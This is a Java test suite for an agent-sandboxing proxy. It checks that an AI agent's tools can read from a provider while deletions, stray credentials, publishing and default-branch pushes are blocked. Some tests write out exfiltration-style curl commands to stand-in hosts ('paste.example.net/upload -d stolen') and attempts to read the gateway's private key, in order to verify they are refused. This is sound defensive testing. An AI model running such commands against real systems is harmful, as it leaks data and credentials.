package dev.interlock.system;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.interlock.evidence.Json;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Tests an agent in {@code interlock run} whose tools call the provider at its real address, with no other settings
 * than the environment of {@code run}.
 */
@Timeout(300)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Tag("process")
final class ProxiedRunTest {

    private static final String URL = "https://" + TestingRailway.HOST + "/graphql/v2";
    private static final String STRAY = "rw_a-stray-token-that-somebody-left-behind";

    private Installation installation;
    private Path workspace;

    @BeforeAll
    void open() throws Exception {
        for (String tool : List.of("bwrap", "socat", "setpriv", "curl")) {
            assumeTrue(Programs.has(tool), "needs " + tool);
        }
        installation = Installation.openAtTheProvidersAddress();
        workspace = installation.workspace("workspace");
        Files.writeString(workspace.resolve("read.json"), body(Agent.read()));
        Files.writeString(workspace.resolve("delete.json"), body(Agent.delete(TestingRailway.disposable(0))));
    }

    @AfterAll
    void close() throws Exception {
        if (installation != null) {
            installation.close();
        }
    }

    private static String body(String query) {
        return Json.object().with("query", query).canonicalText();
    }

    private String run(String script) throws Exception {
        Programs.ProgramResult ended = installation.run(workspace, script);
        return ended.out() + "\n" + ended.err();
    }

    /** Posts a file of the workspace. */
    private static String curl(String file, String more) {
        return "curl -sS -m 50 -w '\n%{http_code} %{http_version}' " + more
                + " -H 'Content-Type: application/json' --data-binary @" + file + " " + URL;
    }

    @ParameterizedTest
    @ValueSource(strings = {"--http1.1", "--http2"})
    void readsAreForwardedAndDestructionsAreHeld(String protocol) throws Exception {
        String version = protocol.equals("--http2") ? "2" : "1.1";
        assertThat(run(curl("read.json", protocol))).contains("\"data\"", "staging", "\n200 " + version);
        assertThat(run(curl("delete.json", protocol))).contains("confirmation_required", "\n403 " + version);
        assertThat(installation.railway().exists(TestingRailway.disposable(0))).isTrue();
        assertThat(installation.railway().attempted("volumeDelete")).isZero();
    }

    /** Apollo's client and urql send the document only upon this answer, which must have no other members. */
    @Test
    void documentThatIsOnlyNamedIsAskedFor() throws Exception {
        String hash = "\"persistedQuery\":{\"version\":1,\"sha256Hash\":\"" + "0".repeat(64) + "\"}";
        Files.writeString(workspace.resolve("named.json"), "{\"variables\":{},\"extensions\":{" + hash + "}}");
        String answer =
                run(curl("named.json", "-H 'Accept: application/graphql-response+json,application/json;q=0.9'"));
        assertThat(Json.readObject(answer.lines().findFirst().orElseThrow().getBytes(StandardCharsets.UTF_8)))
                .satisfies(body -> assertThat(body.members().keySet()).containsExactly("errors"))
                .satisfies(body -> assertThat(body.canonicalText())
                        .contains("\"message\":\"PersistedQueryNotSupported\"", "PERSISTED_QUERY_NOT_SUPPORTED"));

        Files.writeString(
                workspace.resolve("whole.json"),
                Json.object()
                        .with("query", Agent.read())
                        .with(
                                "extensions",
                                Json.object()
                                        .with("clientLibrary", Json.object().with("name", "a")))
                        .canonicalText());
        assertThat(run(curl("whole.json", ""))).contains("\"data\"", "staging", "\n200 2");
    }

    @Test
    void aStrayTokenIsRefusedAtTheProxy() throws Exception {
        assertThat(run(curl("delete.json", "-H 'Authorization: Bearer " + STRAY + "'")))
                .contains("foreign_credential", "\n403");
        assertThat(installation.railway().attempted("volumeDelete")).isZero();
        String volume = TestingRailway.disposable(0);
        assertThat(installation.said().lines())
                .anyMatch(line -> line.contains("foreign_credential")
                        && line.contains("It came from `jer/cursor`.")
                        && line.contains("It asked for `railway/volumeDelete`: Delete volume " + volume));
        assertThat(installation.said()).doesNotContain(STRAY);
        assertThat(installation
                        .interlock(List.of("receipts", "--agent=jer/cursor", "--kind=refused"), "")
                        .expect(0)
                        .out())
                .contains("railway/volumeDelete")
                .doesNotContain(STRAY);
    }

    @Test
    void theLeaseWorksAsTheToolsOwnToken() throws Exception {
        assertThat(run(curl("read.json", "-H \"Authorization: Bearer $INTERLOCK_LEASE\"")))
                .contains("\n200 2");
    }

    @Test
    void anUnsealedHostIsRefusedWithAReasonOnRecord() throws Exception {
        assertThat(run("curl -sS -m 50 https://paste.example.net/upload -d stolen"))
                .contains("names no upstream at `https://paste.example.net`");
        assertThat(run("curl -sS -m 50 --cacert /dev/null https://drop.example.net/"))
                .contains("curl: (");
        assertThat(installation.receipts())
                .filteredOn(receipt -> receipt.text("kind").equals("refused"))
                .extracting(receipt -> receipt.canonicalText())
                .anyMatch(text -> text.contains("paste.example.net") && text.contains("jer/cursor"))
                .anyMatch(text -> text.contains("drop.example.net") && text.contains("jer/cursor"));
    }

    @Test
    void onlyTheProxyIsReachable() throws Exception {
        assertThat(run("curl -sS -m 20 --noproxy '*' " + URL)).contains("curl: (");
        assertThat(run("curl -sS -m 20 --noproxy '*' -k https://127.0.0.1:"
                        + installation.railway().port() + "/"))
                .contains("curl: (");
    }

    private void posts(String script) throws Exception {
        assertThat(run(script.formatted("read.json"))).as("read").contains("\"data\"", "staging");
        assertThat(run(script.formatted("delete.json"))).as("delete").containsAnyOf("confirmation_required", "403");
        assertThat(installation.railway().exists(TestingRailway.disposable(0))).isTrue();
    }

    @Test
    void wgetWorksThroughTheProxy() throws Exception {
        assumeTrue(Programs.has("wget"), "needs wget");
        posts("wget -q --content-on-error -O - --header 'Content-Type: application/json' --post-file=%s " + URL);
    }

    @Test
    void pythonWorksThroughTheProxy() throws Exception {
        assumeTrue(Programs.has("python3"), "needs python3");
        Files.writeString(workspace.resolve("ask.py"), """
                import sys, urllib.request, urllib.error
                request = urllib.request.Request("%s", open(sys.argv[1], "rb").read(),
                    {"Content-Type": "application/json", "User-Agent": "tool"})
                try:
                    print(urllib.request.urlopen(request, timeout=50).read().decode())
                except urllib.error.HTTPError as e:
                    print(e.code, e.read().decode())
                """.formatted(URL));
        posts("/usr/bin/python3 ask.py %s");
    }

    @Test
    void nodeWorksThroughTheProxy() throws Exception {
        assumeTrue(Programs.has("node"), "needs node");
        Files.writeString(workspace.resolve("fetch.mjs"), """
                import { readFileSync } from 'node:fs';
                const r = await fetch('%s', {method: 'POST', headers: {'content-type': 'application/json'},
                    body: readFileSync(process.argv[2])});
                console.log(r.status, await r.text());
                """.formatted(URL));
        posts("node fetch.mjs %s");
        Files.writeString(workspace.resolve("https.mjs"), """
                import { readFileSync } from 'node:fs';
                import https from 'node:https';
                https.request('%s', {method: 'POST', headers: {'content-type': 'application/json'}}, r => {
                    r.on('data', d => process.stdout.write(d));
                }).end(readFileSync(process.argv[2]));
                """.formatted(URL));
        posts("node https.mjs %s");
    }

    @Test
    void npmFetchesAndCannotPublish() throws Exception {
        assumeTrue(Programs.has("npm"), "needs npm");
        for (String name : List.of("plain-thing", "@some/scoped-thing")) {
            Path made = Files.createDirectories(workspace.resolve("made").resolve(name));
            Files.writeString(made.resolve("package.json"), "{\"name\":\"" + name + "\",\"version\":\"1.0.0\"}");
            Files.writeString(made.resolve("index.js"), "module.exports = 'fetched';");
            ProcessBuilder pack = new ProcessBuilder("npm", "pack", "--silent").directory(made.toFile());
            String tarball = Programs.run(pack, "").expect(0).out();
            installation.registry().publish(name, Files.readAllBytes(made.resolve(tarball)));
        }
        assertThat(run("mkdir app && cd app && npm init -y >/dev/null && npm install --no-audit --no-fund"
                        + " --fetch-retries=0 plain-thing @some/scoped-thing"
                        + " && node -p 'require(\"plain-thing\") + require(\"@some/scoped-thing\")'"))
                .contains("fetchedfetched");
        assertThat(String.join("\n", installation.registry().requests))
                .contains("GET /@some/scoped-thing")
                .doesNotContain("Authorization", "authorization");
        assertThat(run("cd app && npm publish --fetch-retries=0 --//" + FakeRegistry.HOST
                        + "/:_authToken=$INTERLOCK_LEASE" + " 2>&1"))
                .contains("403");
        assertThat(installation.registry().requests).noneMatch(request -> request.startsWith("PUT"));
        assertThat(run("npm view left-pad --fetch-retries=0 --registry=https://other.example.net/ 2>&1"))
                .contains("403");
    }

    @Test
    void byGit() throws Exception {
        assumeTrue(Programs.has("git"), "needs git");
        assertThat(run("GIT_TERMINAL_PROMPT=0 git clone https://" + TestingRailway.HOST + "/x/y.git 2>&1"))
                .contains("403");
        assertThat(run("GIT_TERMINAL_PROMPT=0 git clone https://github.example.com/x/y.git 2>&1"))
                .contains("403");
    }

    @Test
    void gitFetchesAndPushesToBranchesOfItsOwn() throws Exception {
        assumeTrue(Programs.has("git"), "needs git");
        installation.git().publish("acme/site", "index.html", "<h1>fetched</h1>");
        String url = "https://" + GitHost.HOST + "/acme/site.git";
        assertThat(run("git clone -q " + url + " site && cat site/index.html && git -C site fetch -q origin main"
                        + " && echo again"))
                .contains("<h1>fetched</h1>", "again");
        assertThat(installation.git().requests)
                .anyMatch(request -> request.startsWith("POST /acme/site.git/git-upload-pack"));
        assertThat(run("cd site && head -c 3000000 /dev/urandom > noise && git add noise && GIT_TERMINAL_PROMPT=0"
                        + " git -c user.name=a -c user.email=a@example.com commit -qam more"
                        + " && git push origin main 2>&1; git push origin main:topic 2>&1"))
                .contains("remote: interlock: main: it is the default branch")
                .contains("! [remote rejected] main -> main (interlock: ")
                .contains("* [new branch]      main -> topic");
        assertThat(installation.git().commits("acme/site", "main")).isEqualTo(1);
        assertThat(installation.git().commits("acme/site", "topic")).isEqualTo(2);
    }

    @Test
    void javaWorksThroughTheProxy() throws Exception {
        Path java = Path.of(System.getProperty("java.home"), "bin", "java");
        assumeTrue(java.startsWith("/usr"), "this Java is not visible inside");
        Files.writeString(workspace.resolve("Ask.java"), """
                import java.net.URI;
                import java.net.http.*;
                import java.nio.file.Path;
                void main(String[] arguments) throws Exception {
                    var request = HttpRequest.newBuilder(URI.create("%s"))
                        .header("Content-Type", "application/json")
                        .header("Authorization", "Bearer " + System.getenv("INTERLOCK_LEASE"))
                        .POST(HttpRequest.BodyPublishers.ofFile(Path.of(arguments[0]))).build();
                    var answer = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
                    System.out.println(answer.statusCode() + " " + answer.version() + " " + answer.body());
                }
                """.formatted(URL));
        posts(java + " -Xmx128m -XX:TieredStopAtLevel=1 Ask.java %s");
    }

    // Outside of `run`

    /** Returns the output of curl with the front as its proxy, trusting the gateway's published certificate. */
    private String outside(String user, String... more) throws Exception {
        List<String> command = new ArrayList<>(List.of("curl", "-sS", "-m", "50", "-w", "\n%{http_code}"));
        command.addAll(List.of("-x", "http://" + user + "127.0.0.1:" + installation.port()));
        command.addAll(List.of("--cacert", published().toString()));
        command.addAll(List.of("-H", "Content-Type: application/json", "--data-binary"));
        command.add("@" + workspace.resolve("read.json"));
        command.addAll(List.of(more));
        command.add(URL);
        Programs.ProgramResult ended = Programs.run(command, "");
        return ended.out() + ended.err();
    }

    private Path published() {
        return installation.root().resolve("run/authority.pem");
    }

    @Test
    void theSharedListenerAsksForTheLeaseBeforeATunnel() throws Exception {
        Programs.await("the authority is published", () -> Files.exists(published()));
        String lease = installation.lease();
        assertThat(outside("lease:" + lease + "@")).contains("\"data\"", "\n200");
        assertThat(outside("", "--proxy-anyauth", "--proxy-user", "lease:" + lease))
                .as("by the challenge")
                .contains("\"data\"", "\n200");
        assertThat(outside("lease:" + lease + "@", "-H", "Authorization: Bearer " + lease))
                .as("in both")
                .contains("\"data\"", "\n200");
        assertThat(outside("")).contains("407");
        assertThat(outside("lease:" + installation.lease() + "@", "-H", "Authorization: Bearer " + lease))
                .as("two leases")
                .contains("foreign_credential", "\n403");
        assertThat(outside("lease:" + STRAY + "@")).contains("foreign_credential", "\n403");
    }

    @Test
    void theAuthoritysKeyIsPrivateToTheGatewayAndNamesItsUse() throws Exception {
        Programs.await("the authority is published", () -> Files.exists(published()));
        Path key = installation.root().resolve("data/authority.key");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(key)))
                .isEqualTo("rw-------");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(key.resolveSibling(""))))
                .isEqualTo("rwx------");
        List<String> show = List.of(
                "openssl",
                "x509",
                "-noout",
                "-ext",
                "nameConstraints",
                "-in",
                published().toString());
        assertThat(Programs.run(show, "").expect(0).out())
                .contains("DNS:" + TestingRailway.HOST, "DNS:" + FakeRegistry.HOST, "DNS:" + GitHost.HOST, "Excluded:")
                .containsPattern("(?s)Permitted:(\\s+DNS:\\S+){8}\\s+Excluded:");
        assertThat(run("cat " + key + " " + published() + " 2>&1; ls /run/interlock"))
                .doesNotContain("-----BEGIN")
                .contains("authority.pem");
    }

    @Test
    void aPlacesAuthorityIsUselessElsewhere() throws Exception {
        assertThat(run("cat /run/interlock/authority.pem > mine.pem; echo x > /run/interlock/authority.pem"
                        + " || echo kept"))
                .contains("kept");
        assertThat(Files.readString(workspace.resolve("mine.pem")))
                .startsWith("-----BEGIN CERTIFICATE-----")
                .isNotEqualTo(Files.readString(published()));
        assertThat(outside(
                        "lease:" + installation.lease() + "@",
                        "--cacert",
                        workspace.resolve("mine.pem").toString()))
                .contains("curl: (60)");
        try (var places = Files.list(installation.root().resolve("run/places"))) {
            assertThat(places).as("gone with the agent").isEmpty();
        }
    }
}
